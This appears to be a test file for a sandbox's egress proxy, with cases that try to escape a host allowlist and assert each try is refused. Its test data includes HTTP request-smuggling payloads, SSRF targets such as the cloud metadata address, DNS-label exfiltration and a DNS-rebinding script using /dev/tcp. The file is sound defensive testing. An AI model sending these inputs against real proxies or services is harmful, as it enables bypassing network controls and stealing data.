import { afterAll, beforeAll, expect, vi } from 'vitest';
import { proxyName } from '../../../src/machine/kvm/jail';
import { clientHello } from '../../integration/fixtures/clientHello';
import {
  EGRESS_FOLDER,
  httpStatus,
  httpStatuses,
  networkRow,
  networkRows,
  rawRequests,
} from '../../integration/fixtures/egressGuest';
import { EgressWorld } from '../../integration/fixtures/egressWorld';
import { engine, TestMachine } from '../../integration/fixtures/machine';
import { attack } from '../attack';
import { unwalled } from '../drill/places';

/** Names of the test's own name server that lead where no machine may go. None of these addresses is in the test's network. */
const WALLED_NAMES: Record<string, string[]> = {
  'ten.lan.test': ['10.20.30.40'],
  'home.lan.test': ['192.168.1.1'],
  'cgn.lan.test': ['100.64.0.1'],
  'loop.lan.test': ['127.0.0.1'],
  'zero.lan.test': ['0.0.0.0'],
  'metadata.lan.test': ['169.254.169.254'],
  'multicast.lan.test': ['224.0.0.1'],
  'reserved.lan.test': ['240.0.0.1'],
};

let world: EgressWorld;
let machine: TestMachine;

beforeAll(async () => {
  world = await EgressWorld.make(0, ['allowed.test', 'other.test', 'a.below.test'], ({ web, host }) => ({
    ...WALLED_NAMES,
    // In a network without IPv6 it has no address at all.
    'mapped.lan.test': ['::ffff:10.20.30.40'],
    'open.lan.test': [web],
    'host.lan.test': [host],
    'both.lan.test': [web, host],
    'flip.test': { first: [web], later: [host], after: 2 },
    'steady.test': { first: [web], later: [web], after: 2 },
  }));
  machine = await TestMachine.open('egress', EGRESS_FOLDER, world.env);
  const rules = [
    'allowed.test',
    '*.below.test',
    'allowed.test:8080',
    '*.lan.test',
    'flip.test',
    'steady.test',
  ];
  await machine.bulkhead('net', ...rules.flatMap((rule) => ['--allow', rule]));
});

afterAll(async () => {
  await machine?.dispose();
  await world?.dispose();
});

const status = (url: string, ...flags: string[]) => httpStatus(machine, url, ...flags);

async function expectAll(urls: string[], wanted: string, ...flags: string[]): Promise<void> {
  expect(await httpStatuses(machine, urls, ...flags)).toEqual(
    Object.fromEntries(urls.map((url) => [url, wanted])),
  );
}

const raw = (...requests: string[]) => rawRequests(machine, ...requests);

attack(
  {
    id: 'egress-other-hosts',
    from: 'guest',
    tries:
      'With a few names allowed, asks for another, for what is above one, for other ports, for addresses in all spellings, and past the proxy.',
    holds: 'Each is refused before anything is sent; without the proxy there is no way at all.',
    promise: 'allowed-names',
  },
  async () => {
    const allowed = ['http://allowed.test/', 'https://allowed.test/', 'http://a.below.test/'];
    await expectAll(allowed, '200');
    expect(await status('http://allowed.test:8080/', '--proxytunnel')).toBe('200');
    const refused = [
      'http://other.test/',
      'https://other.test/',
      'http://below.test/',
      'http://allowed.test.evil.test/',
      'http://notallowed.test/',
      'http://allowed.test:81/',
      'https://allowed.test:22/',
      `http://${world.address}/`,
      `https://${world.address}/`,
      'http://127.0.0.1/',
      'http://2130706433/',
      'http://[::1]/',
    ];
    // Past the list of what is no matter for the proxy, where loopbacks stand.
    await expectAll(refused, '403', '--noproxy', '-');
    expect(await networkRow(machine, 'other.test')).toMatchObject({ allowed: false, reason: 'host' });
    expect(await status(`http://${world.address}/`, '--noproxy', world.address)).toBe('000');
    // Beside the wall, that address answers.
    const beside = unwalled({ NetworkMode: world.name });
    const there = `exec 3<>/dev/tcp/${world.address}/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; head -1 <&3`;
    expect(await beside.sh(there)).toContain('200');
    return `${allowed.length + 1} allowed, ${refused.length} refused, none past the proxy`;
  },
);

attack(
  {
    id: 'egress-raw-requests',
    from: 'guest',
    tries:
      'Writes to the proxy by hand: an allowed name before another Host, a second request behind an allowed one, smuggled lengths, squid’s own pages, FTP, TRACE, control characters.',
    holds: 'The name that is checked is the one that is asked for; nothing of the kind reaches another host.',
    promise: 'allowed-names',
  },
  async () => {
    const before = (await world.requests()).length;
    const [ordinary] = await raw(
      'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
    );
    expect(ordinary).toMatch(/^HTTP\/1.1 200[\s\S]*hello from allowed.test/);
    const second = 'GET http://other.test/smuggled HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n';
    const tries = [
      'GET http://allowed.test/front HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n',
      'GET http://other.test/front HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
      'GET /front HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n',
      `GET http://allowed.test/first HTTP/1.1\r\nHost: allowed.test\r\n\r\n${second}`,
      `GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: ${second.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${second}`,
      'GET http://allowed.test@other.test/front HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
      'GET http://allowed.test\t.other.test/front HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
      'GET http://other.test\\@allowed.test/front HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n',
      'GET cache_object://allowed.test/info HTTP/1.1\r\n\r\n',
      'GET http://allowed.test/squid-internal-mgr/info HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
      'GET http://bulkhead/squid-internal-mgr/info HTTP/1.1\r\nHost: bulkhead\r\nConnection: close\r\n\r\n',
      'GET ftp://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
      'TRACE http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
      'CONNECT bulkhead.invalid:443 HTTP/1.1\r\n\r\n',
      'CONNECT 127.0.0.1:3127 HTTP/1.1\r\n\r\n',
    ];
    const answers = await raw(...tries);
    expect(answers).toHaveLength(tries.length);
    for (const answer of answers) {
      expect(answer).not.toMatch(/hello from other|Squid Object Cache|Connection information for squid/i);
    }
    const asked = (await world.requests()).slice(before);
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.filter((host) => host.includes('other'))).toEqual([]);
    return answers.map((answer) => /^HTTP\/1\.\d (\d+)/.exec(answer)?.[1] ?? 'none').join(' ');
  },
);

attack(
  {
    id: 'egress-name-lookups',
    from: 'guest',
    tries:
      'Carries data out in the labels of names that nobody allowed, for the attacker’s name server to see.',
    holds: 'A name that no rule allows is never looked up; an allowed one is.',
    promise: 'allowed-names',
  },
  async () => {
    expect(await status('http://open.lan.test/')).toBe('200');
    await expectAll(['http://c2VjcmV0.exfil.test/', 'https://c2VjcmV0.exfil.test/'], '403');
    // Not past the proxy either: the guest's own resolver leads nowhere.
    await machine.exec(['getent', 'hosts', 'c2VjcmV0.exfil.test'], [], { deadlineMs: 60_000 });
    const lookups = await world.lookups();
    expect(lookups).toContain('open.lan.test');
    expect(lookups.filter((name) => name.includes('exfil'))).toEqual([]);
    return `${lookups.length} names were looked up, none of them`;
  },
);

attack(
  {
    id: 'egress-tls-name',
    from: 'guest',
    tries:
      'Behind a tunnel to an allowed host: a TLS handshake that names another one of the same server, or none, and bytes that are no TLS.',
    holds: 'The connection is ended before the server answers, and the row says why.',
    promise: 'allowed-names',
  },
  async () => {
    const handshake = async (...flags: string[]) => {
      const proxy = ['-proxy', '10.0.2.2:3128', '-connect', 'allowed.test:443'];
      const { stdout } = await machine.exec(['openssl', 's_client', ...proxy, ...flags], [], { input: '' });
      return /^subject=/m.test(stdout);
    };
    expect(await handshake('-servername', 'allowed.test')).toBe(true);
    expect(await handshake('-servername', 'other.test')).toBe(false);
    expect(await handshake('-noservername')).toBe(false);
    await vi.waitFor(
      async () =>
        expect(await networkRow(machine, 'allowed.test', 443)).toMatchObject({
          allowed: false,
          reason: 'server-name',
        }),
      { timeout: 20_000, interval: 50 },
    );
    const before = (await world.requests()).length;
    const [plain = ''] = await raw(
      'CONNECT allowed.test:443 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n',
    );
    expect(plain).not.toContain('hello');
    expect((await world.requests()).length).toBe(before);
    return `its own name passes; another, none, and plain HTTP do not (${plain.length} bytes came back)`;
  },
);

attack(
  {
    id: 'egress-walled-names',
    from: 'guest',
    tries:
      'Asks for allowed names that lead to private, loopback, link-local, metadata, carrier-grade NAT, multicast and reserved addresses, to the host’s own, or to a good and a bad one.',
    holds:
      'Refused after the name was looked up, over HTTP and TLS; the user is told that it is the address.',
    promise: 'walled-addresses',
  },
  async () => {
    expect(await status('http://open.lan.test/')).toBe('200');
    const names = [...Object.keys(WALLED_NAMES), 'host.lan.test', 'both.lan.test'];
    await expectAll(
      names.flatMap((name) => [`http://${name}/`, `https://${name}/`]),
      '403',
    );
    const rows = await networkRows(machine);
    for (const name of names) {
      expect(rows.find(({ host, port }) => host === name && port === 80)).toMatchObject({
        allowed: false,
        reason: 'address',
      });
    }
    expect(await status('http://mapped.lan.test/')).not.toBe('200');
    expect(world.hostGreeted).toEqual([]);
    return `${names.length + 1} names, nobody reached`;
  },
);

attack(
  {
    id: 'egress-rebinding',
    from: 'guest',
    tries:
      'Has its name answer with a good address while it is checked, and with the host’s own when the handshake comes (DNS rebinding).',
    holds:
      'The kernel refuses the second address; a name that stays where it was gets its handshake answered.',
    promise: 'walled-addresses',
  },
  async () => {
    /** Asks for the tunnel, and sends its handshake only when the name server answers with the other address. */
    const late = async (name: string) => {
      const hello = (await clientHello(name)).toString('hex');
      const script = `
        exec 3<>/dev/tcp/10.0.2.2/3128
        printf 'CONNECT ${name}:443 HTTP/1.1\\r\\n\\r\\n' >&3
        read -t 10 -r line <&3; echo "$line"; read -t 10 -r line <&3
        sleep 4
        printf '%b' "$(echo ${hello} | sed 's/../\\\\x&/g')" >&3
        timeout 10 head -c 300 <&3 | od -An -tx1 -v | tr -d ' \\n'`;
      const lines = (await machine.exec(['bash', '-c', script])).stdout.trim().split('\n');
      expect(lines[0]).toContain('200');
      expect((await world.lookups()).filter((asked) => asked === name).length).toBeGreaterThan(1);
      return lines.at(-1) ?? '';
    };
    expect(await late('steady.test')).toMatch(/^160303/);
    expect(await late('flip.test')).not.toMatch(/^160303/);
    expect(world.hostGreeted).toEqual([]);
    await vi.waitFor(
      async () => expect(await networkRow(machine, 'flip.test', 443)).toMatchObject({ allowed: false }),
      { timeout: 20_000, interval: 50 },
    );
    return 'looked up twice; the host’s server was not greeted';
  },
);

attack(
  {
    id: 'egress-fallen-squid',
    from: 'guest',
    tries:
      'As if squid had been talked into it: its account in the proxy’s container knocks at the host’s own address there; then the proxy is started without the kernel’s routes.',
    holds:
      'The kernel has no way there for that account, root in the same container has; without the routes nothing is served.',
    promise: 'walled-addresses',
  },
  async () => {
    const proxy = (await engine()).docker.getContainer(proxyName(machine.id));
    const knock = async (user: string) => {
      const command = `echo > /dev/tcp/${world.hostAddress}/80`;
      const exec = await proxy.exec({ Cmd: ['bash', '-c', command], User: user, AttachStdout: true });
      (await exec.start({})).resume();
      return vi.waitFor(
        async () => {
          const { ExitCode: code } = await exec.inspect();
          expect(code).not.toBeNull();
          return code;
        },
        { timeout: 20_000, interval: 50 },
      );
    };
    expect(await knock('1234:1234')).not.toBe(0);
    expect(world.hostGreeted).toEqual([]);
    // Somebody does listen there.
    expect(await knock('0:0')).toBe(0);
    await vi.waitUntil(() => world.hostGreeted.length === 1, { timeout: 20_000, interval: 50 });
    world.hostGreeted.length = 0;
    // By hand, so that nobody puts the wall up.
    await proxy.restart({ t: 2 });
    expect(await status('http://allowed.test/')).toBe('000');
    const { State: state } = await proxy.inspect();
    expect(state.Running).toBe(true);
    await proxy.kill();
    await machine.bulkhead('net', 'allowlist');
    expect(await status('http://allowed.test/')).toBe('200');
    return 'no route for its account; unserved until the wall stood';
  },
);
